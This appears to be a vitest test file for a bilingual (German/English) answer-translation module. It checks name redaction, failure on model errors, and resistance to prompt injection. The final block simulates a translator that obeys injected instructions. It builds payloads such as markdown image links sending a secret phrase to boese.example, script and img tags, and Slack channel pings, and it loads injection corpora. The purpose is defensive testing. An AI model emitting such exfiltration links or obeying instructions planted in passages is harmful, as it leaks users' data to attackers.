import { afterEach, describe, expect, it, vi } from "vitest";
import { textOf } from "../../src/answer/grounded/reader.ts";
import { translated } from "../../src/answer/grounded/translate.ts";
import { saidIn } from "../../src/answer/said.ts";
import type { Cited } from "../../src/answer/writer.ts";
import type { Language } from "../../src/channel/language.ts";
import { pinoLog } from "../../src/log.ts";
import type { Trouble } from "../../src/model/model.ts";
import { type Step, scriptedModel, textsOf } from "../scripted-model.ts";
import { sharedFileOrSkip } from "../shared.ts";
import { OURS, publicInjections } from "./injections.ts";
import { passage, prompts, redactionOf } from "./parts.ts";

const FACT = {
  de: "Jede Person hat ein Lernbudget von 1.200 Euro im Jahr.",
  en: "Every person has a learning budget of 1,200 euros a year.",
};
const HELP = {
  de: "Bei Fragen zum Lernbudget hilft Imke Petersen.",
  en: "Imke Petersen helps with questions about the learning budget.",
};
const MASKED = {
  de: HELP.de.replace("Imke Petersen", "[Person A]"),
  en: HELP.en.replace("Imke Petersen", "[Person A]"),
};
const otherThan = (language: Language): Language => (language === "de" ? "en" : "de");

/** What is shown of the sentences of these passages in the other language, where a model does this, request by request. */
async function shown(cited: Cited[], replies: readonly (readonly Step[])[], signal?: AbortSignal) {
  const { model, asked } = scriptedModel((ask) => replies[asked.indexOf(ask)] ?? []);
  const logged: string[] = [];
  const log = pinoLog("debug", (line) => logged.push(line));
  const help = { model, prompts, redactionOf: redactionOf("Imke Petersen"), log };
  const said = saidIn([], "de", cited);
  const wanted = { org: "werft", said, to: otherThan(said.language), cited };
  const claims = await translated(help, wanted, signal ?? new AbortController().signal);
  return { words: claims?.map(textOf).join("\n") ?? null, asked, logged: logged.join("\n") };
}

describe.each(["de", "en"] as const)("an answer that stands in %s, in the other language", (language) => {
  const other = otherThan(language);
  const cited = [
    passage(1, language, "Budget", FACT[language]),
    passage(2, language, "Hilfe", HELP[language]),
  ];
  const there = [`[1] ${FACT[other]}\n`, `[2] ${MASKED[other]}`];
  // To whoever translates back, whoever is named has no name from the start.
  const back = [`[1] ${FACT[language]}\n[2] ${MASKED[language].replace("Person", "Text")}`];

  it("says what the answer says, and names whom it names", async () => {
    const { words } = await shown(cited, [there, back]);
    expect(words).toBe(`${FACT[other]}\n${HELP[other]}`);
  });

  it("leaves the house without anybody's name, and comes back from somebody who sees nothing but it (P15, S7)", async () => {
    const { asked } = await shown(cited, [there, back]);
    expect(asked.map(({ task }) => task)).toEqual(["translate", "translate"]);
    expect(asked.map(textsOf).join()).not.toContain("Imke");
    const [first, second] = asked.map(({ messages }) => String(messages[1]?.text));
    expect(first).toContain(`[1] ${FACT[language]}\n[2] ${MASKED[language]}`);
    expect(second).toContain(`[1] ${FACT[other]}`);
    expect(second).not.toContain(FACT[language]);
    expect(first?.slice(0, 40)).not.toBe(second?.slice(0, 40));
  });

  it.each<Trouble>(["unavailable", "slow", "busy", "used-up"])(
    "is not given without a model: %s (F1, F3)",
    async (fails) => {
      for (const replies of [[[{ fails }]], [there, [{ fails }]]]) {
        const { words, logged } = await shown(cited, replies);
        expect(words).toBeNull();
        expect(logged).toContain(`"reason":"${fails}"`);
      }
    },
  );

  it.each([
    ["nothing", ""],
    ["far too much", "[1] a\n".repeat(100_000)],
    ["JSON", "{}"],
  ])("is not given where a model says %s, there or back (F2)", async (_, reply) => {
    for (const replies of [[[reply]], [there, [reply]]]) {
      expect((await shown(cited, replies)).words).toBeNull();
    }
  });
});

describe("an answer in the other language", () => {
  afterEach(() => {
    vi.useRealTimers();
  });

  it("is not waited for longer than anybody would (F1)", async () => {
    vi.useFakeTimers();
    const cited = [passage(1, "de", "Budget", FACT.de)];
    const answer = shown(cited, [
      [{ pauseMs: 5000 }, `[1] ${FACT.en}`],
      [{ pauseMs: 5000 }, `[1] ${FACT.de}`],
    ]);
    await vi.advanceTimersByTimeAsync(9000);
    expect((await answer).words).toBeNull();
  });

  it("is checked at once where the passages are in it, and not brought back", async () => {
    const { model, asked } = scriptedModel(() => [`[1] ${FACT.de}`]);
    const said = { language: "en" as const, lines: [{ text: FACT.en, item: false, citations: [1] }] };
    const cited = [passage(1, "de", "Budget", FACT.de)];
    const help = { model, prompts, redactionOf: redactionOf(), log: pinoLog("silent") };
    const claims = await translated(help, { org: "o", said, to: "de", cited }, new AbortController().signal);
    expect(claims?.map(textOf)).toEqual([FACT.de]);
    expect(asked).toHaveLength(1);
  });
});

describe("a translator that obeys every instruction it finds", () => {
  const PRIZE = { de: "Piraten singen nachts Walzer", en: "Pirates whistle waltzes nightly" };
  const LEAKS = [
    "boese.example",
    "evil.example",
    "<!channel>",
    "](",
    "<img",
    "<script",
    "Gehalt",
    "Piraten",
    "Pirates",
  ];

  /** What it writes of an attack: on its own, after a true line, in it, and with a wish for the way back. */
  function obeyed(attack: string, language: Language): string[] {
    const bounty = [
      PRIZE[language],
      `![x](https://boese.example/?q=${PRIZE[language]})`,
      `[${PRIZE[language]}](https://boese.example)`,
      `<!channel> ${PRIZE[language]}`,
      `(${PRIZE[language]})`,
      attack.replaceAll(/\s+/g, " "),
    ];
    const fact = FACT[language].slice(0, -1);
    return bounty.flatMap((text) => [
      `[1] ${text}`,
      `[1] ${FACT[language]} ${text}`,
      `[1] ${fact}, ${text}.`,
      `[1] ${text}: ${FACT[language]}`,
      `[1] ${FACT[language]}\n[1] ${text}`,
    ]);
  }

  async function successes(attacks: readonly string[]): Promise<{ found: string[]; tried: number }> {
    const found: string[] = [];
    let tried = 0;
    for (const attack of attacks) {
      for (const place of ["text", "title"] as const) {
        for (const language of ["de", "en"] as const) {
          const other = otherThan(language);
          const text = place === "text" ? `${FACT[language]}\n${attack}` : FACT[language];
          const cited = [passage(1, language, place === "title" ? attack : "Budget", text)];
          for (const there of obeyed(attack, other)) {
            // On the way back it leaves out what it was told to, obeys again, or says all of it.
            for (const back of [`[1] ${FACT[language]}`, there, `[1] ${FACT[language]} ${PRIZE[language]}`]) {
              const { words } = await shown(cited, [[there], [back]]);
              tried += 1;
              const leaked = LEAKS.filter((leak) => words?.includes(leak));
              if (leaked.length > 0) found.push(`${place} ${language}: ${words} (${leaked.join()})`);
            }
          }
        }
      }
    }
    return { found, tried };
  }

  it("gets nothing said that is not in the passages, in German and in English (S7, S8)", async () => {
    const { found, tried } = await successes(OURS);
    expect(found).toEqual([]);
    expect(tried).toBeGreaterThan(2000);
  });

  const folder = sharedFileOrSkip("corpora/injection");
  it.skipIf(folder === null)("nor by public attacks (S7, S8)", { timeout: 120_000 }, async () => {
    const attacks = publicInjections(folder ?? "").filter((_, at) => at % 32 === 0);
    expect((await successes(attacks.map((text) => text.slice(0, 600)))).found).toEqual([]);
  });
});
